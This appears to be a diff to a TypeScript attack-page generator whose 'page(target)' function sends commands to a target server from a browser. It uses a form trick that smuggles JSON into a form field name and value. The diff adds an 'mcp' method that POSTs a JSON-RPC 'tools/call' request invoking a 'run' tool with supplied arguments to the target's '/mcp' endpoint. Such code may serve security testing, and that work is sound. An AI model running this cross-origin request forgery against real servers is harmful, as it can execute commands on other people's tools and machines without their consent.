@@ -85,6 +85,14 @@ function page(target: string): string {
         field.name = command.slice(0, -1) + ',"x":"'; field.value = '"}'
         form.append(field); document.body.append(form); form.submit()
       }),
+      mcp: async () => {
+        const call = { jsonrpc: "2.0", id: 1, method: "tools/call",
+          params: { name: "run", arguments: JSON.parse(command) } }
+        const headers = { "Content-Type": "application/json",
+          "Accept": "application/json, text/event-stream" }
+        const sent = { method: "POST", headers, body: JSON.stringify(call) }
+        return (await fetch(target + "/mcp", sent)).status
+      },
       events: () => new Promise((done) => {
         const events = new EventSource(target + "/events")
         events.onopen = () => done("opened")
